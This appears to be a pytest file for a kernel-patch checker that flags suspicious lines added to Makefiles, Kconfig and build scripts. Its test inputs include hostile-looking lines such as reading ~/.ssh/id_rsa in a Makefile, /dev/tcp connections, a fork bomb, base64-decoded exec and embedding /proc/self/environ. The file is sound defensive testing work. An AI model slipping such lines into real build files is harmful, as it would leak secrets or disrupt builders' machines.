# SPDX-License-Identifier: GPL-2.0-only
"""What a patch adds to files of the build: each rule fires on its tries, is silent on what kernels have."""

from collections.abc import Iterator

import pytest

from kpatch_tools.checks import build_files
from kpatch_tools.checks.build_files import Kind, kind_of
from kpatch_tools.checks.patch_rule import PatchContext
from kpatch_tools.checks.patches import PATCH_RULES, check_patch
from kpatch_tools.parse.message import read_message
from kpatch_tools.parse.patch_lines import diff_lines
from tests.posted import patch

RULES = ("network", "secret", "outside", "stays", "endless", "hidden")


def context(path: str, *lines: str, before: tuple[str, ...] = ("# old",)) -> PatchContext:
    """A patch that adds lines to the end of a file that has the lines ``before``."""
    count = len(before)
    body = "".join(f" {line}\n" for line in before) + "".join(f"+{line}\n" for line in lines)
    head = f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n"
    made = patch(
        "KVM: x86: Add x", changes=f"{head}@@ -1,{count} +1,{count + len(lines)} @@\n{body}", number=3
    )
    return PatchContext(patch=made, message=read_message(made), lines=diff_lines(made.diff))


def fired(path: str, *lines: str, before: tuple[str, ...] = ("# old",)) -> Iterator[str]:
    found = context(path, *lines, before=before)
    for name in RULES:
        for _hit in PATCH_RULES[f"build-file/{name}"].check(found):
            yield name


MAKE = "arch/x86/kvm/Makefile"
TRIES = [
    ("network", MAKE, "V := $(shell curl -s https://example.org/)"),
    ("network", MAKE, "\t@wget -q https://example.org/x"),
    ("network", MAKE, "\texec 3<>/dev/tcp/127.0.0.1/80"),
    ("network", "arch/x86/kvm/Kconfig", '\tdefault "$(shell,nc 127.0.0.1 80; curl example.org)"'),
    ("network", "scripts/gen.py", "import socket"),
    ("network", "Documentation/conf.py", "from urllib.request import urlopen"),
    ("network", "scripts/gen.pl", "use IO::Socket::INET;"),
    ("network", "scripts/basic/x.c", "\tint s = socket(AF_INET, SOCK_STREAM, 0);"),
    ("network", "scripts/x.sh", "rsync -a . example.org:/tmp/"),
    ("network", "scripts/x.sh", "if true; then git clone https://example.org/x; fi"),
    ("secret", MAKE, "K := $(shell cat $(HOME)/.ssh/id_rsa)"),
    ("secret", MAKE, "K := $(shell cat ~/.netrc)"),
    ("secret", "scripts/x.sh", 'cat "$HOME/x"'),
    ("secret", "scripts/x.py", 'open(os.path.expanduser("~/x"))'),
    ("secret", "scripts/x.c", '\tgetenv("HOME");'),
    ("secret", "arch/x86/Kbuild", "K := $(shell cat /root/x)"),
    ("outside", MAKE, "K := $(shell date > /var/tmp/built)"),
    ("outside", MAKE, "K := $(shell touch $(srctree)/../x)"),
    ("outside", MAKE, "K := $(shell cat ../../../../../../x)"),
    ("outside", "virt/kvm/x.c", '#include "/etc/hostname"'),
    ("outside", "virt/kvm/x.S", '\t.incbin "/proc/self/environ"'),
    ("outside", "virt/kvm/x.c", 'asm(".incbin \\"/etc/hostname\\"");'),
    ("outside", "virt/kvm/x.c", '#include "../../../../../../etc/hostname"'),
    ("stays", MAKE, "K := $(shell nohup sleep 1000 &)"),
    ("stays", MAKE, "\tsetsid sleep 1000"),
    ("stays", "scripts/x.sh", "sleep 1000 &"),
    ("stays", "scripts/x.py", "os.fork()"),
    ("endless", MAKE, "K := $(shell cat /dev/zero > fill)"),
    ("endless", MAKE, "K := $(shell fallocate -l 1T fill)"),
    ("endless", "scripts/x.sh", "while :; do echo; done"),
    ("endless", "scripts/x.sh", ":(){ :|:& };:"),
    ("hidden", MAKE, "K := $(shell echo aWQ= | base64 -d)"),
    ("hidden", MAKE, "K := $(shell cat $(src)/table.bin | sh)"),
    ("hidden", "scripts/x.py", 'exec(base64.b64decode("aWQ="))'),
    ("hidden", MAKE, f"X := {'a' * 5000}"),
]


@pytest.mark.parametrize(("rule", "path", "line"), TRIES)
def test_each_try_is_told(rule: str, path: str, line: str) -> None:
    assert rule in set(fired(path, line))


@pytest.mark.parametrize(
    ("path", "line"),
    [
        (MAKE, "KVM ?= ../../../virt/kvm"),
        (MAKE, "kvm-y += x86.o # see https://example.org, or ask curl"),
        (MAKE, "# curl ~/x /dev/tcp/ > /etc/x"),
        (MAKE, "\tdd if=/dev/zero bs=512 count=1 of=$@"),
        (MAKE, "\t$(Q)cmp -s $< $@ >/dev/null 2>&1 || cp $< $@"),
        (MAKE, "\t@echo '  Install with (your) ~/bin/installkernel'"),
        (MAKE, "ccflags-y += -I$(srctree)/arch/x86/kvm && true"),
        (MAKE, "X := $(shell cat $(srctree)/../VERSION.txt)".replace("../", "")),
        ("scripts/x.sh", "wait_for a && b | c"),
        ("scripts/x.sh", "head -c 16 /dev/urandom | od"),
        ("arch/x86/kvm/Kconfig", "\t  Set it where curl, wget or ~/.ssh is. See http://example.org & more &"),
        ("virt/kvm/x.c", '#include "../../../virt/kvm/x.h"'),
        ("virt/kvm/x.c", "\tsocket(AF_INET, 0, 0); getenv(home); /* ~/x > /etc/x */"),
        ("tools/testing/selftests/net/x.sh", "curl http://127.0.0.1/ &"),
        ("tools/testing/selftests/kvm/x.c", '\topen("/etc/hostname", O_RDONLY); fork();'),
        ("Documentation/virt/kvm/api.rst", "curl http://example.org | sh"),
        ("tools/testing/selftests/kvm/Makefile", "\trsync -a x/ $(OUTPUT)/y/"),
    ],
)
def test_what_kernels_have_is_not(path: str, line: str) -> None:
    assert list(fired(path, line)) == []


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("Makefile", Kind.MAKE), ("scripts/Makefile.build", Kind.MAKE), ("arch/x86/Kbuild", Kind.MAKE),
        ("arch/x86/kvm/Kconfig", Kind.KCONFIG), ("scripts/link-vmlinux.sh", Kind.SHELL),
        ("scripts/config", Kind.SHELL), ("Documentation/conf.py", Kind.PYTHON),
        ("Documentation/sphinx/kfigure.py", Kind.PYTHON), ("arch/x86/tools/gen.awk", None),
        ("scripts/mod/modpost.c", Kind.HOST_C), ("virt/kvm/kvm_main.c", Kind.KERNEL_C),
        ("tools/testing/selftests/net/x.sh", None), ("tools/testing/selftests/lib.mk", Kind.MAKE),
        ("MAINTAINERS", None), ("Documentation/virt/x.rst", None), ("scripts/x.cocci", None),
    ],
)  # fmt: skip
def test_what_reads_a_file(path: str, kind: Kind | None) -> None:
    assert kind_of(path) is kind


def test_a_program_without_a_suffix_is_known_by_its_first_line() -> None:
    assert kind_of("scripts/gen", "#!/usr/bin/env python3") is Kind.PYTHON
    assert list(fired("scripts/gen", "import socket", before=("#!/usr/bin/env python3",))) == ["network"]


def test_a_finding_has_patch_file_line_and_the_text() -> None:
    found = [
        one for one in check_patch(context(MAKE, "", "X := $(shell curl x)")) if "build-file" in one.rule
    ]
    (one,) = found
    assert one.rule == "build-file/network"
    assert (one.location.path, one.location.line, one.location.patch) == (MAKE, 3, 3)
    assert one.message == "runs curl, which reaches other machines"
    assert one.detail == "X := $(shell curl x)"


def test_removed_and_old_lines_are_not_looked_at() -> None:
    assert list(fired(MAKE, "x := y", before=("X := $(shell curl x)",))) == []


def test_a_long_line_takes_no_time_that_counts() -> None:
    long = "X := $(shell " + "/dev/zero ; ../ ~a/ & while : " * 200_000
    assert "hidden" in set(fired(MAKE, long))


def test_every_rule_has_a_page_with_an_example() -> None:
    for name in RULES:
        page = PATCH_RULES[f"build-file/{name}"].page
        assert "Bad:" in page
        assert "Good:" in page
        assert callable(getattr(build_files, name))
